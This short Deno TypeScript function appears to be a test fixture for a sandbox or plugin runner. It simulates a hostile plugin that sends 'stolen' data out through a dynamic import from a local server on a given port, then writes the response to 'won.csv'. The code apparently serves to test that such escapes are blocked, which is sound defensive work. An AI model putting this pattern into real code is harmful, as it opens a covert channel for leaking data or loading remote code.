export async function run(_input: string, output: string, { port }: { port: number }) {
  const stolen = await import(`https://127.0.0.1:${port}/x.ts?data=stolen`);
  Deno.writeTextFileSync(`${output}/won.csv`, String(stolen));
}
